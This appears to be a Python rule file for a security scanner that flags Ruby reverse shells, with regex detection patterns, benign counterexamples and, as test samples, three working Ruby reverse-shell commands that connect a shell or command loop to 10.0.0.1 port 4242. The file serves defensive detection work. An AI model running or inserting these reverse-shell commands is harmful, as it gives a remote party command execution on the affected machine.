"""A Ruby socket becomes the input and output of a shell."""

from __future__ import annotations

from symbi.contracts.scanner import Nearby, Pattern, ScannerRule

RUN = r"(?:\bexec\b.*/(?:ba|z|da)?sh\b|\bIO\.popen\b|\bsystem\b|\bspawn\b|Open3\.|`#\{)"

RULE = ScannerRule(
    id="reverse-shell-ruby",
    category="reverse-shell",
    severity="critical",
    message="Connects a shell to a network socket in Ruby",
    check=(
        Pattern(rf"\bruby\b.*\bTCPSocket\b.*{RUN}"),
        Pattern(rf"\bTCPSocket\.(?:new|open)\b.*{RUN}"),
        Nearby((r"\bTCPSocket\.(?:new|open)\b", RUN), within=12),
    ),
    bad=(
        """ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'""",
        """ruby -rsocket -e 'c=TCPSocket.new("10.0.0.1","4242");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'""",
        'c = TCPSocket.new("10.0.0.1", 4242)\nwhile cmd = c.gets\n  IO.popen(cmd, "r") { |io| c.print io.read }\nend',
    ),
    good=("ruby -rsocket -e 'puts TCPSocket.new(\"example.com\", 80).gets'", "exec '/bin/date'"),
    remediation="Remove it; no skill needs to hand a shell to the network.",
    references=("https://attack.mitre.org/techniques/T1059/",),
    tags=("network", "execute"),
)
